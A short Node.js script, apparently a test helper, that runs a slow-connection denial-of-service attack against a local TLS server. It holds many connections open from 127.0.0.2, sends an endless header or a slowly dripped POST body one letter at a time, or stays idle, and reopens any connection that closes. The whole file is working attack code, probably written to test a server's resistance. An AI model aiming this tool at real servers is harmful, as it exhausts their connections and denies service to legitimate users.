import { connect } from 'node:net'
import { connect as connectOverTls } from 'node:tls'

// attack.mjs KIND PORT COUNT: keeps so many connections over TLS open from 127.0.0.2, as a process of its own. Each sends a
// body (`bodies`) or headers that never end (`headers`) letter by letter, or says nothing (`idle`). Each that is closed is
// opened again. Says `ready` when all have been tried.
const [kind, port, count] = process.argv.slice(2)
const beginning = {
  bodies:
    'POST /send-contact-email HTTP/1.1\r\nHost: villa.example\r\nContent-Type: application/json\r\n' +
    'Content-Length: 30000\r\n\r\n{"name":"',
  headers: 'GET / HTTP/1.1\r\nHost: villa.example\r\nX-Endless: ',
  idle: '',
}[kind]
let tried = 0

function attack() {
  const socket = connect({ port: Number(port), host: '127.0.0.1', localAddress: '127.0.0.2' })
  const secure = connectOverTls({ socket, servername: 'villa.example', rejectUnauthorized: false })
  const dripping = setInterval(() => secure.write(beginning === '' ? '' : 'a'), 2_000)
  secure.on('data', () => {})
  secure.on('secureConnect', () => secure.write(beginning))
  socket.on('error', () => {})
  secure.on('error', () => {})
  socket.on('close', () => {
    clearInterval(dripping)
    secure.destroy()
    setTimeout(attack, 200)
  })
}

const begin = setInterval(() => {
  for (let many = 0; many < 40 && tried < Number(count); many += 1) {
    attack()
    tried += 1
  }
  if (tried < Number(count)) return
  clearInterval(begin)
  console.log('ready')
}, 20)
